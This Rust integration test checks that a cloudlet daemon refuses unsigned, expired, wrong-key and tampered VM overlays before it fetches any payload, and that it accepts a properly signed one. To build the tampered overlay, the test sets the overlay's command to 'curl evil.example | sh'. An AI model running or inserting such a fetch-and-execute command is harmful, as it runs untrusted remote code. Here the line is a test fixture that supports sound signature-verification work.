//! Signed overlays at a cloudlet that requires them (issue 15): an
//! unsigned, a tampered, an expired and a wrong-key overlay are each
//! refused with what is wrong (422 `untrusted_overlay`) before a VM starts
//! and before any payload byte is fetched (the server sees no request
//! past the manifest); the same overlay signed with the trusted key (by the
//! real CLI: `overlay keygen`, `overlay sign`) synthesizes and serves.

use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex};

use cloudlet_api::CreateVmRequest;
use cloudlet_overlay::format::parse_prefix;
use cloudlet_overlay::signature::{sign_file, unix_now};

use crate::common::{cloudlet_bin, kvstore_overlay, range_server, Daemon};

/// Serve `bytes` with range support; the ranges asked for, `[start, end)`.
async fn recording_server(bytes: Vec<u8>) -> (String, Arc<Mutex<Vec<(u64, u64)>>>) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let s = seen.clone();
    let url = range_server(bytes, move |mut sock, data, start, end| {
        s.lock().unwrap().push((start, end));
        async move {
            use tokio::io::AsyncWriteExt;
            let _ = sock.write_all(&data[start as usize..end as usize]).await;
        }
    })
    .await;
    (url, seen)
}

fn cli(args: &[&std::ffi::OsStr]) -> String {
    let out = Command::new(cloudlet_bin()).args(args).output().unwrap();
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "cloudlet {args:?}: {said}");
    said
}

fn key(seed: u8) -> ed25519_dalek::SigningKey {
    ed25519_dalek::SigningKey::from_bytes(&[seed; 32])
}

#[tokio::test(flavor = "multi_thread")]
async fn only_overlays_signed_by_a_trusted_key_are_synthesized() {
    let dir = tempfile::tempdir().unwrap();
    let unsigned = kvstore_overlay().await;
    let os = |p: &Path| p.as_os_str().to_owned();
    let s = |t: &str| std::ffi::OsString::from(t);

    // The developer's key and the signed overlay, by the CLI.
    let key_file = dir.path().join("acme.key");
    cli(&[
        &s("overlay"),
        &s("keygen"),
        &s("--signer"),
        &s("acme"),
        &s("-o"),
        &os(&key_file),
    ]);
    let public = std::fs::read_to_string(dir.path().join("acme.key.pub")).unwrap();
    let signed = dir.path().join("signed.overlay");
    cli(&[
        &s("overlay"),
        &s("sign"),
        &os(&unsigned),
        &s("--key"),
        &os(&key_file),
        &s("--valid-for"),
        &s("1d"),
        &s("-o"),
        &os(&signed),
    ]);
    let shown = cli(&[&s("overlay"), &s("inspect"), &os(&signed)]);
    assert!(shown.contains("signature        valid by acme"), "{shown}");
    assert!(shown.contains(public.trim()), "{shown}");

    // The bad ones.
    let now = unix_now();
    let expired = dir.path().join("expired.overlay");
    // Signed by the trusted key, expired an hour ago (the library: the CLI
    // signs from now on).
    let acme = cloudlet_trust::keys::load(&key_file).unwrap();
    sign_file(
        &unsigned,
        &expired,
        &acme.key,
        "acme",
        now - 7200,
        now - 3600,
    )
    .unwrap();
    let stranger = dir.path().join("stranger.overlay");
    sign_file(&unsigned, &stranger, &key(7), "acme", now, now + 3600).unwrap();
    let signed_bytes = std::fs::read(&signed).unwrap();
    let (_, mut m) = parse_prefix(&signed_bytes).unwrap();
    let mut app: serde_json::Value = serde_json::from_slice(&m.metadata).unwrap();
    app["command"] = "curl evil.example | sh".into();
    m.metadata = serde_json::to_vec(&app).unwrap();
    let tampered = cloudlet_testkit::damage::rewrite(&signed_bytes, &m);

    let d = Daemon::start(&format!(
        "trusted_keys = [\"{}\"]\nrequire_signed_overlays = true\n",
        public.trim()
    ))
    .await;
    let client = d.client();
    for (what, bytes, says) in [
        (
            "unsigned",
            std::fs::read(&unsigned).unwrap(),
            "Unsigned overlay",
        ),
        ("tampered", tampered, "Bad signature by acme"),
        (
            "expired",
            std::fs::read(&expired).unwrap(),
            "Expired signature",
        ),
        (
            "wrong key",
            std::fs::read(&stranger).unwrap(),
            "unknown key",
        ),
    ] {
        let (_, manifest) = parse_prefix(&bytes).unwrap();
        let (url, seen) = recording_server(bytes).await;
        let e = client
            .create_vm(&CreateVmRequest {
                overlay: url,
                name: Some(what.replace(' ', "-")),
                flavor: None,
            })
            .await
            .unwrap_err();
        let said = e.to_string();
        println!("{what}: {said}");
        assert_eq!(e.status(), Some(422), "{what}: {said}");
        assert!(
            said.contains("untrusted_overlay") && said.contains(says),
            "{what}: {said}"
        );
        let ranges = seen.lock().unwrap().clone();
        assert!(!ranges.is_empty(), "{what}: fetched nothing at all?");
        assert!(
            ranges.iter().all(|&(_, end)| end <= manifest.data_offset),
            "{what}: payload bytes fetched before the refusal: {ranges:?} (payload from {})",
            manifest.data_offset
        );
    }
    // An unsigned upload is refused too.
    let e = client
        .create_vm_upload(&unsigned, Some("uploaded"), None)
        .await
        .unwrap_err();
    assert!(e.to_string().contains("Unsigned overlay"), "{e}");
    assert!(
        client.list_vms().await.unwrap().is_empty(),
        "no VM was started"
    );

    // Signed by the trusted key: synthesized, running, serving.
    let (url, _) = recording_server(signed_bytes).await;
    let vm = client
        .create_vm(&CreateVmRequest {
            overlay: url,
            name: Some("signed".into()),
            flavor: None,
        })
        .await
        .expect("a trusted signature is accepted");
    assert_eq!(vm.state, cloudlet_api::VmState::Running);
    let port: u16 = vm.ports[0]
        .endpoint
        .rsplit(':')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let r = cloudlet_testkit::http(port, "GET", "/health", None)
        .await
        .unwrap();
    assert_eq!(r.status, 200);
    client.delete_vm("signed").await.unwrap();
}
